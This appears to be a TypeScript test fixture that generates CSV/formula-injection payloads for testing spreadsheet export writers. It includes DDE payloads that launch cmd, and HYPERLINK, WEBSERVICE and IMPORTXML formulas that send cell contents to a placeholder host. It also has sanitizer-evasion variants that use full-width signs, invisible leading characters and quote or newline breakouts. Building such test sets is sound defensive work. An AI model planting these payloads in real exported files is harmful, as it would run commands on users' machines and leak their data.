const commands = [
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"__DdeLink_60_870818182")',
  'HYPERLINK("http://example.invalid/?x="&A1,"点此查看")',
  'WEBSERVICE("http://example.invalid/"&A1)',
  'IMPORTXML(CONCAT("http://example.invalid/?v=",A1),"//a")',
  "SUM(1+1)*cmd|' /C calc'!A0",
  '1+1',
  'A1',
]
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−']
const leads = ['\t', '\r', '\n', '\0', ' ', '\u3000', '\u00A0', '\uFEFF', '\u200B', '\x01', '\r\n ']

/** Texts that a spreadsheet program might run, to try the writers with. */
export const formulaPayloads: readonly string[] = [
  ...signs.flatMap((sign) => commands.map((command) => sign + command)),
  ...['\t', ' ', '\u200B'].flatMap((lead) =>
    signs.flatMap((sign) => commands.map((command) => lead + sign + command)),
  ),
  ...signs.flatMap((sign) => signs.slice(0, 4).map((next) => `${sign}${next}1+1`)),
  ...leads.flatMap((lead) => ['=1+1', '+1', '@SUM(A1)'].map((formula) => lead + formula)),
  '\t文字',
  '\r文字',
  '\n文字',
  '\0文字',
  '-',
  '=',
  '+86 13800000000',
  "-2+3+cmd|'!A1",
  '=1,"\n=2',
  '"=1+1"\n=1',
  '=1+1";=2',
  '-1"\r\n=3',
]
